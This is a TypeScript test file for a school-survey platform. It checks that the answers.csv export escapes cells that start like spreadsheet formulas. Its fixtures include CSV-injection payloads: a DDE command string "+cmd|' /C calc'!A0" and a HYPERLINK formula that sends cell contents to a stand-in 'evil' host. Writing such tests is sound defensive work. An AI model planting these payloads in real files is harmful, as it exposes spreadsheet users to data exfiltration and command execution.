import { randomUUID } from 'node:crypto';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { launchCampaign } from '../../test/campaign-journey';
import type { SurveyJson } from '../methodology/assemble';
import { sampleAnswers } from '../methodology/sample-answers';
import { createTestApp, uniqueAddress, type TestApp } from '../../test/app';

let t: TestApp;
beforeAll(async () => {
  t = await createTestApp();
});
afterAll(async () => t?.close());

const formula = '=HYPERLINK("http://evil/?x="&A1,"Нажмите")';

const importCsv = (kind: 'municipalities' | 'schools', text: string) =>
  t.request('regional', {
    method: 'POST',
    url: `/api/directory/import/commit?kind=${kind}`,
    headers: { 'content-type': 'application/octet-stream' },
    payload: Buffer.from(`\uFEFF${text.replace(/\n/g, '\r\n')}`, 'utf8'),
  });

/** The cells of a CSV the platform wrote (fields quoted only where needed). */
function parseCsv(body: string): string[][] {
  const rows: string[][] = [];
  for (const line of body
    .replace(/^\uFEFF/, '')
    .split('\r\n')
    .filter(Boolean)) {
    rows.push(
      [...line.matchAll(/("(?:[^"]|"")*"|[^;]*)(;|$)/g)]
        .slice(0, -1)
        .map(([, cell]) => (cell!.startsWith('"') ? cell!.slice(1, -1).replaceAll('""', '"') : cell!)),
    );
  }
  return rows;
}

describe('answers.csv', () => {
  it('writes respondent text and imported names that start like a formula as text', async () => {
    expect((await importCsv('municipalities', 'Код;Наименование;Тип\nKUM;@SUM(1);район\n')).statusCode).toBe(200);
    expect(
      (
        await importCsv(
          'schools',
          'Код;Полное наименование;Краткое наименование;Код муниципалитета;Местность;Адрес\n' +
            "KUM-01;+cmd|' /C calc'!A0;-2+3 школа;KUM;городская;\n",
        )
      ).statusCode,
    ).toBe(200);

    const created = await t.request('regional', {
      method: 'POST',
      url: '/api/campaigns',
      payload: {
        title: 'Кампания с формулами в ответах',
        year: 2026,
        methodologyId: 'federal-2020',
        mechanismCodes: ['1.1'],
        opensAt: new Date(Date.now() - 3600_000).toISOString(),
        closesAt: new Date(Date.now() + 86400_000).toISOString(),
      },
    });
    const campaignId: number = created.json().id;
    const codes = await launchCampaign(t, campaignId);
    const code = codes.find((c) => c.schoolId === t.fixture.schools.kumenySchool1 && c.respondentRole === 'director')!;
    const entered = await t.app.inject({
      method: 'POST',
      url: '/api/respondent/session',
      payload: { code: code.code },
      remoteAddress: uniqueAddress(),
    });
    const cookies = { muko_respondent: entered.cookies.find((c) => c.name === 'muko_respondent')!.value };
    const definition: SurveyJson = (await t.app.inject({ method: 'GET', url: '/api/respondent/definition', cookies })).json();
    // The director's «other» explanation carries the formula.
    const answers = {
      ...sampleAnswers(definition),
      m1_1_recommendations_received: 'yes',
      m1_1_recommendations_use: ['work_programs', 'other'],
      'm1_1_recommendations_use-Comment': formula,
    };
    const submitted = await t.app.inject({
      method: 'POST',
      url: '/api/respondent/submit',
      cookies,
      payload: { answers, revision: 0, currentPage: 0, saveId: randomUUID() },
    });
    expect(submitted.statusCode).toBe(200);

    const csv = await t.request('regional', { method: 'GET', url: `/api/campaigns/${campaignId}/answers.csv` });
    expect(csv.statusCode).toBe(200);
    const [header, ...rows] = parseCsv(csv.body);
    const row = rows.find((cells) => cells[1] === 'KUM-01')!;
    expect(row.slice(0, 3)).toEqual(["'@SUM(1)", 'KUM-01', "'-2+3 школа"]);
    expect(row[header!.findIndex((h) => h.endsWith('(пояснение)') && h.includes('использовала'))]).toBe(`'${formula}`);
    // Nothing in the file starts like a formula any more.
    expect(rows.flat().filter((cell) => /^[=+\-@\t\r]/.test(cell))).toEqual([]);
  });
});
